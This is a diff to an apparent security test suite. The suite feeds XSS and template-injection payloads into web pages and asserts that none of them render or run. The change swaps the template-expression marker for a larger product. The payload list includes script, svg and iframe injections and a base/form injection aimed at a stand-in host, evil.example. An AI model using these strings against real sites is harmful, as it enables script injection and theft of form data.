@@ -28,7 +28,7 @@ PAYLOADS = (
     "</title></style><svg onload=window.ran=1>",
     "'-(window.ran=1)-'",
     "javascript:window.ran=1",
-    "{{ 7 * 191 }}${7*191}",
+    "{{ 40127 * 40129 }}${40127*40129}",
     "<iframe srcdoc='<script>parent.ran = 1</script>'>",
     "<base href=https://evil.example/><form action=https://evil.example><input name=code>",
     "%3Cscript%3Ewindow.ran=1%3C/script%3E",
@@ -257,7 +257,7 @@ async def test_payloads_make_no_node_and_run_nothing(here: Town, visitor: Visito
                 assert await nodes(page) == plain, (path, name, payload)
                 assert await page.evaluate("window.ran") is None
                 assert payload not in await page.content()
-                assert "1337" not in await page.content()
+                assert "1610256383" not in await page.content()
 
 
 async def test_the_policy_keeps_scripts_from_running_that_got_in(here: Town) -> None:
